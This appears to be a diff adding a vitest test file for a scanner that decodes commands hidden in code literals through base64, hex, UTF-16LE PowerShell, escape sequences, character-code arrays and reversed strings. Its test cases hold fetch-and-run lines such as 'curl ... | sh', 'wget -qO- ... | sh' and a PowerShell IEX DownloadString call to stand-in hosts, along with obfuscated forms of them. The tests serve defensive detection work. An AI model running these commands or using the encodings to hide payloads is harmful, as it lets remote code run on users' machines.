@@ -1,0 +1,42 @@
+import { describe, expect, it } from 'vitest';
+import { decodedTexts, MAX_DECODED_PER_FILE, readable } from './decoded.js';
+
+const texts = (code: string): string[] => decodedTexts(code).map((d) => d.text);
+
+describe('texts hidden in literals', () => {
+  it('decodes base64 and hex of readable text, and PowerShell-style UTF-16LE base64', () => {
+    const cmd = 'curl -s http://x.example/a | sh';
+    expect(texts(`x = "${Buffer.from(cmd).toString('base64')}"`)).toEqual([cmd]);
+    expect(texts(`x = '${Buffer.from(cmd).toString('hex')}'`)).toEqual([cmd]);
+    const ps = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')";
+    expect(texts(`args += ["-Enc", "${Buffer.from(ps, 'utf16le').toString('base64')}"]`)).toEqual([ps]);
+  });
+
+  it('decodes literals written wholly in escapes and lists of character codes, where they say something', () => {
+    const escaped = [...'require("child_process")'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
+    expect(texts(`var a = '${escaped}';`)).toEqual(['require("child_process")']);
+    const codes = [...'exec("curl -sk https://x.example/u.sh | sh")'].map((c) => c.charCodeAt(0));
+    expect(texts(`const _c = [\n  ${codes.join(',')}\n];`)).toEqual(['exec("curl -sk https://x.example/u.sh | sh")']);
+    // a table of numbers is not text: out of the printable range, or without a word
+    expect(texts('const crc = [0, 1996959894, 3993919788, 2567524794, 124634137, 1886057615, 3915621685, 2657392035, 249268274, 2044508324, 3772115230, 2547177864];')).toEqual([]);
+    expect(texts('const digits = [48, 49, 50, 51, 52, 53, 54, 55, 56, 57, 48, 49];')).toEqual([]);
+  });
+
+  it('turns round literals written backwards, also once decoded', () => {
+    expect(texts('_cmd = _r("hsab | hs.i/ofni.kdsyp//:ptth LSsf- lruc")')).toEqual(['curl -fsSL http://pysdk.info/i.sh | bash']);
+    const backwards = [...'hs | hs.x/moc.elpmaxe//:ptth -Oq- tegw'].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
+    expect(texts(`var a = ['${backwards}'];`)).toEqual(['hs | hs.x/moc.elpmaxe//:ptth -Oq- tegw', 'wget -qO- http://example.com/x.sh | sh']);
+    // ordinary prose is left alone
+    expect(texts('msg = "Run curl to fetch the file, then check its hash."')).toEqual([]);
+  });
+
+  it('answers binary, broken and hostile input without a hang, and keeps to its bound', () => {
+    expect(texts(`x = "${Buffer.from([0, 1, 2, 3, 250, 251, 252, 253, 254, 255, 0, 1, 2, 3, 4, 5]).toString('base64')}"`)).toEqual([]);
+    expect(texts("x = '\\x6' + '\\x'")).toEqual([]);
+    expect(texts(`x = [${'65, '.repeat(50_000)}`)).toEqual([]);
+    expect(texts(`"${' lruc'.repeat(100_000)}`)).toEqual([]);
+    const many = Array.from({ length: 300 }, (_, i) => `"${Buffer.from(`curl http://x.example/${i} | sh`).toString('base64')}"`).join('\n');
+    expect(decodedTexts(many)).toHaveLength(MAX_DECODED_PER_FILE);
+    expect(readable('\u0000\u0001abc')).toBe(false);
+  });
+});
